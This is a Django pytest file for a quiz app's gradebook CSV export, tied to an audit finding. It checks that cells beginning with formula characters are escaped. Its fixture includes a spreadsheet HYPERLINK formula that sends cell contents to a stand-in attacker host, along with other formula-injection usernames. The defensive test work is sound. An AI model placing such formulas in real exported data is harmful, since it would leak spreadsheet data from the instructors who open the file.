"""Finding 10: the gradebook CSV cannot carry a formula into an instructor's spreadsheet."""

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.urls import reverse

from quizzes.models import Attempt, Cohort, Membership, Response
from tests.factories import UserFactory
from tests.test_instructor import make_assignment

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def cohort(client):
    UserFactory(username="teacher")
    call_command("make_instructor", "teacher")
    client.force_login(User.objects.get(username="teacher"))
    return Cohort.objects.create(name="Nursing 2027", owner=User.objects.get(username="teacher"))


def gradebook_rows(client, cohort) -> list[list[str]]:
    response = client.get(reverse("gradebook_csv", args=[cohort.pk]))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_a_learner_named_like_a_formula_is_written_as_text(client, cohort):
    # made before usernames were ASCII-checked, or by an admin: sign-up alone cannot stop every such name
    learners = [UserFactory(username=name) for name in [FORMULA, "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain"]]
    for user in learners:
        Membership.objects.create(cohort=cohort, user=user)
    assignment = make_assignment(cohort, title="=1+1 week")
    attempt = Attempt.objects.create(user=learners[0], assignment=assignment, question_ids=assignment.draw_questions())
    for qid in attempt.question_ids:
        Response.objects.create(attempt=attempt, question_id=qid, answer={}, score=0.5, seconds=30)
    attempt.finish()
    rows = gradebook_rows(client, cohort)
    assert rows[0][1] == "'=1+1 week: score %"
    names = {row[0] for row in rows[1:]}
    assert names == {"'" + FORMULA, "'+1+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "plain"}
    # no cell anywhere starts with a formula character
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # the numbers stay numbers
    formula_row = next(row for row in rows if row[0] == "'" + FORMULA)
    assert formula_row[1:4] == ["50", "3/3", "1.5"]
